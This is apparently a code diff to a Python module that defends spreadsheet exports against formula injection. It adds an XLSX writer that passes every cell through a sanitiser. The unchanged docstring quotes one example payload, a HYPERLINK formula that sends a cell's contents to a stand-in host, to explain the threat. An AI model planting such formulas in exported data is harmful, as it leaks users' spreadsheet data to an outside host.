@@ -1,4 +1,4 @@
-"""Files that a spreadsheet program may open (CSV now, XLSX later): one rule for every cell.
+"""Files that a spreadsheet program may open (CSV and XLSX): one rule for every cell.
 
 A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
 by Excel, LibreOffice and Google Sheets: a roster name ``=HYPERLINK("http://x/?"&A1,"x")`` in the
@@ -34,4 +34,42 @@ def csv_text(header: Iterable, rows: Iterable[Iterable], lineterminator: str = "
     writer.writerow([safe_cell(h) for h in header])
     for row in rows:
         writer.writerow([safe_cell(value) for value in row])
+    return out.getvalue()
+
+
+def xlsx_bytes(header: Iterable, rows: Iterable[Iterable], title: str = "data",
+               notes: Iterable[Iterable] | None = None, text_rows: int = 0) -> bytes:
+    """An XLSX workbook whose first sheet is ``header`` then ``rows``, every cell through
+    safe_cell (as csv_text), and, when ``notes`` are given, a second sheet of explanations
+    (importers read the first sheet only). Text stays text: a code such as ``0812`` or
+    ``3171010001`` is written as a string, never turned into a number. ``text_rows`` empty
+    rows below the header are formatted as text, so that codes typed into a template keep their
+    leading zeros."""
+    from openpyxl import Workbook
+    from openpyxl.styles import Font
+
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.title = title[:31]
+    header = [safe_cell(h) for h in header]
+    sheet.append(header)
+    for cell in sheet[1]:
+        cell.font = Font(bold=True)
+    sheet.freeze_panes = "A2"
+    for row in rows:
+        sheet.append([safe_cell(value) for value in row])
+    for row_cells in sheet.iter_rows(min_row=2, max_row=text_rows + 1, max_col=len(header)):
+        for cell in row_cells:
+            cell.number_format = "@"
+    for column_cells in sheet.iter_cols(min_row=1, max_row=1):
+        letter = column_cells[0].column_letter
+        sheet.column_dimensions[letter].width = max(12, len(str(column_cells[0].value)) + 4)
+    if notes is not None:
+        extra = workbook.create_sheet("info")
+        for row in notes:
+            extra.append([safe_cell(value) for value in row])
+        extra.column_dimensions["A"].width = 18
+        extra.column_dimensions["B"].width = 90
+    out = io.BytesIO()
+    workbook.save(out)
     return out.getvalue()
